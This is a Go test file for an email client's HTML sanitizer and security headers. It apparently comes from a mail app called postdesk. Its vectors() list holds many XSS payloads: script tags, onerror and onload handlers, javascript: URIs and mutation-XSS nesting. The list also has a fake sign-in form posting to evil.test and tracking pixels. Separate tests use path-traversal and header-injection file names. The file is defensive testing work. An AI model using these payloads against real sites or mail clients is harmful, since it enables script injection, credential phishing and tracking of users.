package web

import (
	"net/http"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"postdesk/core"
)

// vectors are mails that want to act, to track, or to look like us.
func vectors() []string {
	return []string{
		`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
		`<a href="javascript:alert(1)">x</a>`, `<a href=" java&#x09;script:alert(1)">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
		`<a href="vbscript:x">x</a>`, `<iframe src="https://evil.test"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
		`<object data="x.swf"></object>`, `<embed src="x">`, `<base href="https://evil.test/">`, `<meta http-equiv=refresh content="0;url=https://evil.test">`,
		`<link rel=stylesheet href="https://evil.test/x.css">`, `<style>body{display:none}</style>`, `<style>@import url(https://evil.test)</style>`,
		`<form action="https://evil.test"><input name=p><button>Sign in</button></form>`, `<input onfocus=alert(1) autofocus>`,
		`<p style="background:url(https://evil.test/x)">x</p>`, `<p style="position:fixed;top:0;left:0">x</p>`, `<p style="width:expression(alert(1))">x</p>`,
		`<div style="behavior:url(x)">x</div>`, `<body onload=alert(1)>`, `<body background="https://evil.test/x.gif">`, `<table background="https://evil.test/x.gif">`,
		`<img src="https://tracker.test/p.gif">`, `<img srcset="https://tracker.test/p.gif 2x">`, `<img src="//tracker.test/p.gif">`,
		`<img src="cid:other@mail">`, `<img src="data:image/svg+xml;base64,PHN2Zz4=">`, `<image src="https://tracker.test/p.gif">`,
		`<video src="https://tracker.test/v" poster="https://tracker.test/p"></video>`, `<audio src="https://tracker.test/a" autoplay>`,
		`<picture><source srcset="https://tracker.test/p"><img src=x></picture>`, `<input type=image src="https://tracker.test/p">`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<textarea></textarea><script>alert(1)</script>`,
		`<template><script>alert(1)</script></template>`, `<!--[if IE]><script>alert(1)</script><![endif]-->`, `<?php x ?><b>y</b>`,
		`<a id=getElementById name=body>x</a>`, `<form id=x><input name=attributes></form>`, `<p class="said">Your session ended</p>`,
		`<a href="https://ok.test" target=_self ping="https://evil.test">x</a>`, `<b onmouseover=alert(1)>x`, `<<script>alert(1)//<</script>`,
		`<img """><script>alert(1)</script>">`, `<a href="jAvAsCrIpT&colon;alert(1)">x</a>`, strings.Repeat("<div>", 5000) + "deep",
		`<title></title><img src=x onerror=alert(1)>`, `<xmp><img src=x onerror=alert(1)></xmp>`, `<plaintext><script>alert(1)</script>`,
		`<svg><style><img src=x onerror=alert(1)></style></svg>`, `<select><option><script>alert(1)</script></option></select>`,
		`<img src="data:image/png;base64,AAAA" style="position:absolute" onload=alert(1)>`, "<scr\x00ipt>alert(1)</scr\x00ipt>",
		`<a href="mailto:x@y.test?subject=hi">mail</a>`, `<A href=http:// >`, `<a href="/agent">x</a>`, `<font color=red size=3>red</font>`, `<td bgcolor="url(https://evil.test)">x</td>`,
	}
}

func TestHostileHTMLKeepsNothingThatActs(t *testing.T) {
	t.Parallel()
	for _, vector := range vectors() {
		for _, remote := range []bool{false, true} {
			clean := cleanHTML(vector, nil, remote)
			inspect(t, vector, clean, remote)
			if again := cleanHTML(clean, nil, remote); again != clean {
				t.Errorf("%.80q is not stable:\n%.200s\n%.200s", vector, clean, again)
			}
		}
	}
}

func FuzzHostileHTML(f *testing.F) {
	for _, vector := range vectors() {
		f.Add(vector)
	}
	f.Fuzz(func(t *testing.T, source string) {
		inspect(t, source, cleanHTML(source, nil, false), false)
	})
}

// inspect reads cleaned HTML as a browser would, and looks for all that may not
// be left.
func inspect(t *testing.T, source, clean string, remote bool) {
	t.Helper()
	z := html.NewTokenizer(strings.NewReader(clean))
	for z.Next() != html.ErrorToken {
		token := z.Token()
		if token.Type != html.StartTagToken && token.Type != html.SelfClosingTagToken {
			continue
		}
		if slices.Contains([]string{"script", "style", "iframe", "object", "embed", "base", "meta", "link", "form", "input", "button", "textarea",
			"select", "svg", "math", "video", "audio", "source", "template", "noscript", "body", "xmp", "plaintext", "title", "frame"}, token.Data) {
			t.Errorf("%.120q keeps <%s>", source, token.Data)
		}
		for _, a := range token.Attr {
			inspectAttribute(t, source, token.Data, a, remote)
		}
	}
}

func inspectAttribute(t *testing.T, source, tag string, a html.Attribute, remote bool) {
	t.Helper()
	value := strings.ToLower(strings.TrimSpace(a.Val))
	switch {
	case strings.HasPrefix(a.Key, "on"), slices.Contains([]string{"id", "name", "srcset", "ping", "action", "background", "srcdoc", "poster"}, a.Key):
		t.Errorf("%.120q keeps %s", source, a.Key)
	case a.Key == "class" && value != "pd-blocked":
		t.Errorf("%.120q keeps a class of ours: %s", source, value)
	case a.Key == "style" && (strings.Contains(value, "url") || strings.Contains(value, "position") || strings.Contains(value, "expression")):
		t.Errorf("%.120q keeps the style %s", source, value)
	case a.Key == "href" && !hasScheme(value, "http:", "https:", "mailto:"):
		t.Errorf("%.120q keeps the link %s", source, value)
	case a.Key == "src" && tag == "img":
		if !strings.HasPrefix(value, "data:image/") && !(remote && hasScheme(value, "http://", "https://")) || strings.Contains(value, "svg") {
			t.Errorf("%.120q loads %s", source, value)
		}
	case a.Key == "src":
		t.Errorf("%.120q keeps src on <%s>", source, tag)
	}
}

func hasScheme(value string, schemes ...string) bool {
	return slices.ContainsFunc(schemes, func(s string) bool { return strings.HasPrefix(value, s) })
}

const tinyPNG = "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"

func TestAPictureOfTheMailItselfIsShownAndAnyOtherFileIsNot(t *testing.T) {
	t.Parallel()
	own := pictures{"logo@x": core.File{Content: []byte(tinyPNG)}, "page@x": core.File{Content: []byte("<svg onload=alert(1)>"), ContentType: "image/png"}}
	if clean := cleanHTML(`<img src="cid:logo@x">`, own, false); !strings.Contains(clean, `src="data:image/png;base64,`) {
		t.Errorf("the mail's own picture is missing: %s", clean)
	}
	for _, source := range []string{`<img src="cid:page@x">`, `<img src="cid:none@x">`} {
		if clean := cleanHTML(source, own, false); strings.Contains(clean, "src=") {
			t.Errorf("%s became %s", source, clean)
		}
	}
}

func TestTheFrameOfAMailCanRunAndLoadNothing(t *testing.T) {
	t.Parallel()
	w := openSite(t)
	frame := w.ask(t, "agent", "/frame/conversations/{mailed}/{mail}", nil)
	policy := frame.Header.Get("Content-Security-Policy")
	for _, part := range []string{"default-src 'none'", "img-src data:;", "sandbox allow-popups", "form-action 'none'", "frame-ancestors 'self'"} {
		if !strings.Contains(policy, part) {
			t.Errorf("the policy lacks %s: %s", part, policy)
		}
	}
	for _, part := range []string{"allow-scripts", "allow-same-origin", "script-src"} {
		if strings.Contains(policy, part) {
			t.Errorf("the policy has %s", part)
		}
	}
	if len(frame.find(t, "img")) != 0 || len(frame.find(t, "p", "onclick")) != 0 {
		t.Errorf("the frame shows what it should not: %s", frame.Body)
	}
	asked := w.ask(t, "agent", "/frame/conversations/{mailed}/{mail}?images=1", nil)
	if len(asked.find(t, "img", "src=https://tracker.test/x.gif")) != 1 || !strings.Contains(asked.Header.Get("Content-Security-Policy"), "img-src data: https:") {
		t.Errorf("images that were asked for are missing: %s", asked.Body)
	}
	page := w.ask(t, "agent", "/agent/conversations/{mailed}", nil)
	frames := page.find(t, "iframe", "sandbox=allow-popups allow-popups-to-escape-sandbox")
	if len(frames) != 1 || len(page.find(t, "iframe")) != 1 {
		t.Errorf("%d sandboxed frames of %d", len(frames), len(page.find(t, "iframe")))
	}
}

func TestAnAttachmentIsADownloadWhateverItCallsItself(t *testing.T) {
	t.Parallel()
	w := openSite(t)
	for _, path := range []string{"/files/{file}", "/files/{file}?inline=1"} {
		got := w.ask(t, "own", path, nil)
		h := got.Header
		if h.Get("Content-Type") != "application/octet-stream" || !strings.HasPrefix(h.Get("Content-Disposition"), "attachment; filename=evil.html") ||
			h.Get("X-Content-Type-Options") != "nosniff" || !strings.Contains(h.Get("Content-Security-Policy"), "sandbox") {
			t.Errorf("%s: %v", path, h)
		}
	}
}

func TestFileNamesAreMadeHarmless(t *testing.T) {
	t.Parallel()
	for name, want := range map[string]string{
		"../../x.txt": "x.txt", `C:\temp\a.doc`: "a.doc", "gpj.\u202eexe": "gpj.exe", "a\r\nSet-Cookie: x": "a_Set-Cookie_ x", "": "file", "..": "file",
		`q"uote.txt`: "q_uote.txt", strings.Repeat("ä", 3000) + ".pdf": strings.Repeat("ä", 98) + ".pdf",
	} {
		if got := fileName(name); got != want {
			t.Errorf("%.40q: %.240q, want %.240q", name, got, want)
		}
	}
}

func TestPagesCarryAPolicyThatRunsNothingButOurOwnFile(t *testing.T) {
	t.Parallel()
	w := openSite(t)
	for _, path := range []string{"/", "/signin", "/agent/conversations/{conversation}", "/nothing-here", "/static/panel.css"} {
		got := w.ask(t, "agent", path, nil)
		policy := got.Header.Get("Content-Security-Policy")
		if !strings.HasPrefix(policy, "default-src 'none'; style-src 'self'; script-src 'self'; connect-src 'self';") || strings.Contains(policy, "unsafe") {
			t.Errorf("%s: %s", path, policy)
		}
		if got.Header.Get("X-Content-Type-Options") != "nosniff" || !strings.Contains(policy, "frame-ancestors 'none'") {
			t.Errorf("%s lacks headers: %v", path, got.Header)
		}
		if len(got.scripts(t)) != 0 || len(got.find(t, "style")) != 0 {
			t.Errorf("%s has inline script or style", path)
		}
	}
	if got := w.ask(t, "", "/nothing-here", nil); got.Status != http.StatusNotFound {
		t.Errorf("an unknown page is %d", got.Status)
	}
}
